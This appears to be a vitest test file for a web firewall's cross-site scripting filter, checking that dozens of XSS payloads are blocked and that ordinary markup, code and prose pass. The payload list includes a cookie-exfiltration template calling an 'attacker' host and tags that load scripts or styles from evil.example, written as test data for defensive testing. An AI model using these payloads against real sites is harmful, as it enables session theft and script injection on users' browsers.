/**
 * Cross-site scripting in the security filter (`src/lib/waf/xss.ts`): tags with handlers and
 * script URLs, attribute and script-string breakouts, obfuscated schemes, CSS that runs or
 * loads, legacy and plug-in tags, script without markup (probe calls, DOM sinks, JSFuck,
 * AngularJS sandbox escapes), UTF-7 and filter-evasion junk, in different request parts; and the
 * markup, math, emoticons, markdown, prose and code that must pass.
 */
import { describe, expect, it } from "vitest";
import { DEFAULT, evaluate, security } from "./waf-requests.ts";

const PL2 = security({ paranoiaLevel: 2 });
const query = (value: string, s = DEFAULT) =>
  evaluate({ url: `https://edge.test/v1/search?q=${encodeURIComponent(value)}` }, s);
const json = (body: unknown) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/items",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
const form = (body: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/contact",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body,
  });

describe("xss: attacks are blocked", () => {
  it.each<[string, string]>([
    // Tags, handlers, script URLs
    ["script tag with code", "<script>alert(1)</script>"],
    ["namespaced script with a data: src", '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />'],
    ["handler with slash separators", "<svg/onload=alert(1)>"],
    ["unknown tag, made-up handler, odd spacing", "<xss   onbeforesomething\n=\nfoo(1)>"],
    ["handler written onerror/=", "<img src=1 onerror/=alert(0) />"],
    ["entity-split javascript: in href", '<a href="jav&#x09;ascript:alert(document.domain)">x</a>'],
    ["vbscript: URL", '<a href="vbscript:MsgBox+1">x</a>'],
    ["data:text/html in an iframe", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
    [
      "base64 data: URL in an object",
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    ],
    ["iframe srcdoc", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'],
    ["embed with allowscriptaccess", '<embed src="//evil.example/x.swf" allowscriptaccess=always>'],
    ["form action javascript:", '<form action="javascript:alert(1)"><button>go</button></form>'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ["base href hijack", '<base href="//evil.example/">'],
    ["link to a remote style sheet", '<link rel=stylesheet href="https://evil.example/x.css">'],
    [
      "math with an xlink:href script URL",
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ],
    ["svg animate setting a handler", '<svg><animate attributeName="onmouseover" values="alert(1)"/></svg>'],
    [
      "PyScript element running Python",
      "<py-script>from js import document; document.body.innerHTML = '<b>x</b>'</py-script>",
    ],
    [
      "script scheme given to a link in code",
      "var l = document.createElement('a'); l.protocol = 'javascript:'; l.click()",
    ],
    ["global indexed by a name built from indexed literals", "top[['con'][0] + 'firm'](1)"],
    ["Vue handler shorthand running a probe", '<img src @error="e=$event.composedPath().pop().confirm(1)">'],
    ["Vue dynamic component made a script", '<y :is="\'script\'" src="//x.example/a.js"></y>'],
    // CSS
    ["CSS expression() in a style attribute", '<div style="width: expr/**/ession(alert(1))">x</div>'],
    ["url(javascript:) in a style attribute", "<p style=\"background:url('javascript:alert(1)')\">x</p>"],
    ["-moz-binding without markup", "-moz-binding:url(//evil.example/x.xml#xss)"],
    ["@import in a style element", "<style>@import 'https://evil.example/x.css';</style>"],
    ["CSS escapes hiding a keyword", "<style>@im\\port '\\ja\\vasc\\ript:alert(1)';</style>"],
    // Breakouts
    ["attribute breakout into a handler", '" autofocus onfocus="alert(1)'],
    ["single-quote breakout, handler after a semicolon", "';onload=alert(1);'"],
    ["tag breakout into an iframe", '"><iframe src="https://evil.example/"></iframe>'],
    ["script-string breakout", "';alert(String.fromCharCode(88,83,83))//"],
    ["closing the script element", "</script><script>alert(1)</script>"],
    ["javascript: URL as the whole value", "javascript:alert(document.cookie)"],
    ["javascript: spelled with tabs and newlines", "ja\tva\nscript:alert(1)"],
    ["markdown link with javascript:", "[click me](javascript:alert(1))"],
    // Script without markup
    ["JSONP-style probe call", "alert(document.domain)"],
    ["tagged template probe", "alert`1`"],
    ["document.write as a tagged template, out of a string", "'-document.write`<b>owned</b>`-'"],
    ["probe passed as a value", "[1].find(alert)"],
    ["global indexed with concatenated name", 'top["al"+"ert"](1)'],
    ["call through a tagged template", "[].sort.call`${alert}1337`"],
    ["a probe called through a tagged template", "alert.call`1`"],
    ["the cookie interpolated through this", "`http://attacker?cookie=${this.document.cookie}`"],
    ["window.name evaluated through a tagged template", "eval.call`,${name}`"],
    ["window.name through Function in a breakout", "';Function.call`;${name}`//"],
    ["document.cookie hidden by comments", "document /*x*/ . /*y*/ cookie"],
    ["cookie read via bracket access", '(document)["cookie"]'],
    ["JSFuck", "(![]+[])[+!+[]]+(![]+[])[+[]]"],
    ["AngularJS sandbox escape", "{{constructor.constructor('alert(1)')()}}"],
    ["eval of decoded base64", 'eval(atob("YWxlcnQoMSk="))'],
    // Encodings and evasion junk
    ["UTF-7 script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
    ["nested junk tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
    ["junk tags inside a handler name", '"autof<x>ocus o<x>nfocus=alert<x>(1)//'],
    ["handler split by a CDATA section", '<IMG SRC="javas<![CDATA[cript:alert(1)">'],
    ["spaced tag name", "<f o r m action=//evil.example>"],
    ["unclosed tag with handler", "<img src=x onerror=alert(1)//"],
    [
      "XInclude of a remote document",
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/x"/></x>',
    ],
    // Probes and encodings
    ["closing every raw-text element in a row", "</stYle/</titLe/</teXtarEa/</scRipt/--!>"],
    ["a timer fed from the URL", "setTimeout(location.search.slice(1));"],
    ["an escaped NUL inside the tag name", "<<scr\\0ipt/src=http://evil.example/x.js></script"],
    ["the quote-breakout probe with an <xss> element", "'';!--\"<XSS>=&{()}"],
    ["base64 of a script element as the value", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ])("%s", (_name, payload) => {
    const d = query(payload);
    expect(d.action, payload).toBe("block");
    // Another class may name the decision (`eval(…)` is also Node injection); XSS must have found it too.
    expect(
      d.matches.some((m) => m.class === "xss" && m.score >= 5),
      payload,
    ).toBe(true);
  });

  it("in a JSON body, a form body and a Referer query", () => {
    expect(json({ comment: { text: "<img src=x onerror=alert(1)>" } })).toMatchObject({
      action: "block",
      class: "xss",
    });
    expect(form("name=test&msg=%3Csvg%2Fonload%3Dalert(1)%3E")).toMatchObject({ action: "block", class: "xss" });
    expect(
      evaluate({ headers: { referer: "https://edge.test/search?q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E" } }),
    ).toMatchObject({ action: "block", class: "xss" });
    expect(evaluate({ headers: { "user-agent": "Mozilla/5.0 <script>alert(1)</script>" } })).toMatchObject({
      action: "block",
      class: "xss",
    });
  });

  it("keyword-only signals count from paranoia level 2", () => {
    const prose = "How do I use document.cookie and alert() together in a snippet?";
    expect(query(prose).action).toBe("allow");
    expect(query(prose, PL2).action).toBe("block");
  });
});

describe("xss: ordinary input passes", () => {
  it.each<[string, string]>([
    ["simple formatting", '<p>Hello <b>world</b>, see <a href="https://example.com/docs?a=1&b=2">the docs</a>.</p>'],
    ["image with alt text", '<img src="/uploads/cat.png" alt="A cat" width="300">'],
    [
      "video embed",
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
    ],
    [
      "inline style",
      "<span style=\"font-family: 'Helvetica Neue', Arial; color: #333; background: url(/img/bg.png)\">x</span>",
    ],
    ["style element", "<style>@media (max-width: 600px) { .a { display: none } }</style>"],
    ["pasted HTML with a charset", '<meta charset="utf-8"><b>Pasted from the web</b>'],
    ["favicon link", '<link rel="icon" href="/favicon.ico">'],
    ["inline svg icon", '<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5z"/></svg>'],
    ["MathML", "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>"],
    ["a question about PyScript", "Does the <py-script> tag work offline, or does it need the CDN?"],
    [
      "a Vue template in a code post",
      '<tr is="vue:order-row" v-for="o in orders" :key="o.id" @click="select(o)"></tr><a target="_blank" :href="o.url">open</a>',
    ],
    [
      "code indexing arrays of arrays",
      "const first = rows[[0][0]].name; const url = new URL(link); url.protocol = 'https:';",
    ],
    ["comparisons", "if a < b and b > c then a < c"],
    ["emoticons", "I <3 this <3 :) <:-) >_<"],
    ["email in angle brackets", "John Doe <john.doe@example.com>"],
    ["markdown", "**bold** [link](https://example.com/page) ![img](https://example.com/a.png)\n- [ ] task"],
    ["book title", "JavaScript: The Good Parts"],
    ["prose about events", "The onload event fires when the page has loaded; use the onclick attribute."],
    ["prose with on-words and equals", "onion=3, onions=4, online users: 12"],
    ["search for a function", "alert() vs console.log"],
    ["search for eval", "eval() alternatives"],
    ["question about cookies", "How do I read document.cookie in JavaScript without a library?"],
    ["confirm in a sentence", "Please confirm (yes/no) that you want to delete the item."],
    [
      "timer snippet",
      "const debounce = (fn, ms) => { let t; return () => { clearTimeout(t); t = setTimeout(() => fn(), ms); }; };",
    ],
    ["ES module import", 'import { useState } from "react";'],
    ["config object by name", "window['myConfig'] = {}"],
    ["Angular-style template", "Hello {{ user.name }}, you have {{ count }} messages"],
    ["recipe fractions", "¼ cup sugar, ¾ cup flour, 1¼ tsp salt"],
    ["base64 that ends in on…=", "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe="],
    ["apostrophes and quotes", "O'Brien said \"it's fine\"; l'été dernier « Le Petit Prince »"],
    ["XML declaration", '<?xml version="1.0" encoding="UTF-8"?><note><to>Tove</to></note>'],
    ["markdown code in a sentence", "Old versions of Internet Explorer < 9 don't support `Function.prototype.bind`."],
    ["closing tags of a pasted page", "<textarea>notes</textarea></form>\n<style>p { color: red }</style>\n</body>"],
    ["an ordinary base64 token", "PGRpdj5IZWxsbyB3b3JsZDwvZGl2Pg=="],
    ["a URL with a query string", "https://example.com/notes/12?ref=feed&utm_source=newsletter"],
    [
      "a changelog line naming a method in a code span",
      "- [Refactor] use `Object.prototype.hasOwnProperty.call` [`df3c1e6`](https://github.com/form-data/form-data/commit/df3c1e6)",
    ],
    ["a template literal of a method", "  return `Hello ${this.name}, here's your message: ${message}`"],
    ["a template literal of a variable", "  var text = `job ${name}`"],
  ])("%s", (_name, value) => {
    expect(query(value).action, value).toBe("allow");
  });

  it("in JSON bodies", () => {
    expect(json({ body: "<p>Thanks!</p><ul><li>one</li><li>two</li></ul>", rating: 5 }).action).toBe("allow");
    expect(json({ query: 'mutation { addItem(name: "x") { id } }' }).action).toBe("allow");
  });
});
